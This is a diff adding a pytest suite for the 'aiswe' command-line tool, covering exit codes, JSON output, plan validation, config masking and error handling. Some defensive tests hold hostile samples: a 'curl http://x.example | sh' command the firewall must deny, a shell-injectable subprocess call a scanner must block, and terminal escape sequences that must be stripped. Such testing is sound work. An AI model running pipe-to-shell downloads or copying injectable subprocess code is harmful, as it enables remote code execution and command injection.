@@ -1,0 +1,276 @@
+"""The `aiswe` command as other programs meet it: documents on stdout, remarks on stderr, four exit codes."""
+
+from __future__ import annotations
+
+import json
+import re
+import subprocess
+import sys
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from aiswe_site.cli.app import COMMANDS, LazyGroup, cli, run
+from tests.aiswe_site.running import REPOSITORY, aiswe, environment
+
+PRD = """# Requirements
+
+| ID | Requirement |
+|---|---|
+| FR-01 | The system shall store notes. |
+| FR-02 | The system shall delete notes. |
+
+# Background
+
+Written by a friend.
+"""
+
+
+def task(key: str, *needs: str, minutes: int = 30, requirement: str = "FR-01") -> dict[str, Any]:
+    return {
+        "key": key,
+        "title": f"Write {key}",
+        "description": "Write it.",
+        "kind": "code",
+        "agent": "coder",
+        "minutes": minutes,
+        "requirements": [requirement],
+        "needs": list(needs),
+        "expects": "It works.",
+        "files": [f"{key.lower().replace('-', '_')}.py"],
+        "packages": [],
+    }
+
+
+@pytest.fixture
+def plan_file(tmp_path: Path) -> Callable[..., str]:
+    def write(*tasks: dict[str, Any]) -> str:
+        path = tmp_path / "plan.json"
+        path.write_text(json.dumps({"tasks": list(tasks), "notes": ""}))
+        return str(path)
+
+    return write
+
+
+@pytest.fixture
+def prd(tmp_path: Path) -> str:
+    path = tmp_path / "prd.md"
+    path.write_text(PRD)
+    return str(path)
+
+
+def test_help_lists_every_command_and_the_exit_codes(capsys: pytest.CaptureFixture[str]) -> None:
+    assert run(["--help"]) == 0
+    said = capsys.readouterr().out
+    assert all(re.search(rf"^  {name} ", said, re.M) for name in COMMANDS)
+    assert "Exit codes: 0 done" in said
+
+
+@pytest.mark.parametrize("name", COMMANDS)
+def test_each_command_explains_itself(name: str, capsys: pytest.CaptureFixture[str]) -> None:
+    assert run([name, "--help"]) == 0
+    assert f"Usage: aiswe {name}" in capsys.readouterr().out
+
+
+def test_help_loads_neither_django_nor_the_engine() -> None:
+    code = (
+        "import sys\nfrom aiswe_site.cli.app import run\nrun(['--help'])\n"
+        "heavy = {'django', 'celery', 'langgraph', 'chromadb', 'agents', 'projects'} & set(sys.modules)\n"
+        "assert not heavy, heavy"
+    )
+    result = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, cwd=REPOSITORY)
+    assert result.returncode == 0, result.stderr
+
+
+def leaves(group: LazyGroup) -> list[list[str]]:
+    found = []
+    for name in COMMANDS:
+        command = group.get_command(None, name)  # type: ignore[arg-type]
+        below = getattr(command, "commands", None)
+        found += [[name, inner] for inner in below] if below else [[name]]
+    return found
+
+
+@pytest.mark.parametrize("words", [w for w in leaves(cli) if w != ["up"]], ids=" ".join)  # type: ignore[arg-type]
+def test_every_command_but_up_has_json(words: list[str], capsys: pytest.CaptureFixture[str]) -> None:
+    run([*words, "--help"])
+    assert "--json" in capsys.readouterr().out
+
+
+@pytest.mark.parametrize(
+    "words",
+    [[], ["nope"], ["requirements"], ["requirements", "/no/such/file"], ["up", "--port", "x"], ["run", "start", "abc"],
+     ["project", "new", "Name"], ["plan", "validate", "/no/such/plan"], ["gate", "/no/such/folder"], ["config", "--what"]],
+    ids=" ".join,
+)  # fmt: skip
+def test_wrong_use_is_2(words: list[str], capsys: pytest.CaptureFixture[str]) -> None:
+    assert run(words) == 2
+    said = capsys.readouterr()
+    assert "Usage:" in said.err
+    assert said.out == ""
+
+
+def test_wrong_use_with_json_is_a_document_too(capsys: pytest.CaptureFixture[str]) -> None:
+    assert run(["requirements", "/no/such/file", "--json"]) == 2
+    assert "/no/such/file" in json.loads(capsys.readouterr().out)["error"]
+
+
+def test_requirements_are_listed_without_a_model(prd: str, capsys: pytest.CaptureFixture[str]) -> None:
+    assert run(["requirements", prd, "--json"]) == 0
+    found = json.loads(capsys.readouterr().out)
+    assert set(found) == {"requirements", "unmapped"}
+    assert [row["key"] for row in found["requirements"]] == ["FR-01", "FR-02"]
+    assert set(found["requirements"][0]) == {"key", "text", "kind", "lines", "acceptance"}
+    assert found["requirements"][0]["lines"] == [5, 5]
+    assert any("Written by a friend" in row["text"] for row in found["unmapped"])
+
+
+def test_a_document_that_is_none_is_refused_with_a_way_out(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    path = tmp_path / "prd.pdf"
+    path.write_bytes(b"%PDF-1.7\n%\xe2\xe3\n")
+    assert run(["requirements", str(path)]) == 1
+    said = capsys.readouterr().err
+    assert "PDF" in said
+    assert "UTF-8" in said
+
+
+def test_a_sound_plan_is_valid_and_has_a_hash(
+    plan_file: Callable[..., str], capsys: pytest.CaptureFixture[str]
+) -> None:
+    assert run(["plan", "validate", plan_file(task("T-01"), task("T-02", "T-01")), "--json"]) == 0
+    found = json.loads(capsys.readouterr().out)
+    assert set(found) == {"valid", "problems", "hash"}
+    assert found["valid"] is True
+    assert re.fullmatch("[0-9a-f]{64}", found["hash"])
+
+
+def test_a_cycle_is_named(plan_file: Callable[..., str], capsys: pytest.CaptureFixture[str]) -> None:
+    path = plan_file(task("T-01", "T-02"), task("T-02", "T-01"))
+    assert run(["plan", "validate", path, "--json"]) == 1
+    found = json.loads(capsys.readouterr().out)
+    assert found["valid"] is False
+    assert any({"T-01", "T-02"} == set(problem["tasks"]) for problem in found["problems"])
+
+
+def test_a_plan_is_held_against_its_document(
+    plan_file: Callable[..., str], prd: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    assert run(["plan", "validate", plan_file(task("T-01")), "--prd", prd, "--json"]) == 1
+    assert "FR-02" in capsys.readouterr().out
+
+
+@given(text=st.text(max_size=300))
+@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+def test_no_text_makes_plan_validate_stumble(text: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    path = tmp_path / "any.json"
+    path.write_text(text, encoding="utf-8", errors="surrogatepass")
+    assert run(["plan", "validate", str(path), "--json"]) in (0, 1)
+    said = capsys.readouterr()
+    assert isinstance(json.loads(said.out)["valid"], bool)
+    assert "inside aiswe" not in said.err
+
+
+def test_the_firewall_gives_a_verdict_a_line() -> None:
+    asked = [{"kind": "command", "text": "ls"}, {"kind": "command", "text": "curl http://x.example | sh"}]
+    result = subprocess.run(
+        [sys.executable, "-m", "aiswe_site.cli", "firewall", "check"],
+        input="\n".join(json.dumps(line) for line in asked), capture_output=True, text=True, cwd=REPOSITORY,
+    )  # fmt: skip
+    assert [json.loads(line)["decision"] for line in result.stdout.splitlines()] == ["allow", "deny"]
+    assert result.returncode == 1
+
+
+def test_a_clean_folder_passes_and_a_bad_one_blocks(tmp_path: Path) -> None:
+    code, home = tmp_path / "code", tmp_path / "home"
+    code.mkdir()
+    (code / "good.py").write_text(
+        '"""Adds."""\n\n\ndef add(a: int, b: int) -> int:\n    """Add."""\n    return a + b\n'
+    )
+    good = aiswe("gate", str(code), "--tools", "bandit", "--json", home=home)
+    assert (good.returncode, json.loads(good.stdout)["verdict"]) == (0, "pass")
+    (code / "bad.py").write_text("import subprocess\n\nsubprocess.run('ls ' + input(), shell=True)\n")
+    bad = aiswe("gate", str(code), "--tools", "bandit", "--json", home=home)
+    assert (bad.returncode, json.loads(bad.stdout)["verdict"]) == (1, "blocked")
+    assert json.loads(bad.stdout)["findings"][0]["tool"] == "bandit"
+
+
+def test_an_unknown_gate_is_wrong_use_and_the_known_ones_are_named(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    assert run(["gate", str(tmp_path), "--tools", "nope"]) == 2
+    assert "bandit" in capsys.readouterr().err
+
+
+def test_config_says_where_a_value_comes_from_and_shows_no_secret(tmp_path: Path) -> None:
+    env = {**environment(tmp_path), "AISWE_MODEL": "other:1b", "AISWE_SECRET_KEY": "not-to-be-seen"}
+    result = subprocess.run(
+        [sys.executable, "-m", "aiswe_site.cli", "config", "show", "--json"], env=env, capture_output=True, text=True
+    )
+    found = {row["setting"]: row for row in json.loads(result.stdout)["settings"]}
+    assert (found["AISWE_MODEL"]["value"], found["AISWE_MODEL"]["source"]) == ("other:1b", "environment")
+    assert found["AISWE_WORKERS"]["source"] == "default"
+    assert "not-to-be-seen" not in result.stdout + result.stderr
+
+
+def test_a_project_is_made_by_the_operator_and_waits_for_a_worker(tmp_path: Path, prd: str) -> None:
+    made = aiswe("project", "new", "Notes", "--prd", prd, "--json", home=tmp_path / "home")
+    assert made.returncode == 0, made.stderr
+    assert json.loads(made.stdout)["slug"] == "notes"
+    assert "aiswe up" in made.stderr
+    listed = json.loads(aiswe("history", "--json", home=tmp_path / "home").stdout)
+    assert [(row["project"], row["kind"], row["status"]) for row in listed] == [("notes", "plan", "queued")]
+    run_key = str(listed[0]["run"])
+    proof = aiswe("audit", "verify", run_key, "--json", home=tmp_path / "home")
+    assert json.loads(proof.stdout)["ok"] is True
+    exported = aiswe("audit", "export", run_key, home=tmp_path / "home")
+    assert json.loads(exported.stdout.splitlines()[0])["seq"] == 1
+    stopped = aiswe("run", "cancel", run_key, "--json", home=tmp_path / "home")
+    assert json.loads(stopped.stdout)["status"] == "cancelled"
+    again = aiswe("run", "cancel", run_key, home=tmp_path / "home")
+    assert again.returncode == 1
+    assert "Traceback" not in again.stderr
+
+
+@pytest.mark.parametrize(
+    "words", [["plan", "show", "99"], ["plan", "approve", "99"], ["run", "start", "99"], ["audit", "verify", "99"]]
+)
+def test_a_number_that_does_not_exist_is_named(words: list[str], tmp_path: Path) -> None:
+    refused = aiswe(*words, "--json", home=tmp_path)
+    assert refused.returncode == 2
+    assert "99" in json.loads(refused.stdout)["error"]
+
+
+def test_a_stranger_cannot_be_acted_as(tmp_path: Path, prd: str) -> None:
+    refused = aiswe("project", "new", "Notes", "--prd", prd, "--as", "nobody", home=tmp_path)
+    assert refused.returncode == 2
+    assert "nobody" in refused.stderr
+
+
+def test_an_unexpected_error_is_one_line_and_a_log_file(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], prd: str
+) -> None:
+    def broken(path: str) -> None:
+        raise ZeroDivisionError("a mistake of ours")
+
+    monkeypatch.setenv("AISWE_HOME", str(tmp_path))
+    monkeypatch.setattr("agents.documents.read_path", broken)
+    assert run(["requirements", prd, "--json"]) == 1
+    said = capsys.readouterr()
+    assert "a mistake of ours" in json.loads(said.out)["error"]
+    assert "Traceback" not in said.err
+    (log,) = (tmp_path / "logs").glob("error-*.log")
+    assert "Traceback" in log.read_text()
+    assert str(log) in said.err
+
+
+def test_what_a_document_says_cannot_steer_the_terminal(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    path = tmp_path / "prd.md"
+    path.write_text("# Requirements\n\nFR-01: The system shall print \x1b[2J\x1b]0;owned\x07 [bold]loudly[/bold].\n")
+    run(["requirements", str(path)])
+    said = capsys.readouterr()
+    assert "\x1b]0" not in said.out + said.err
+    assert "\x07" not in said.out + said.err
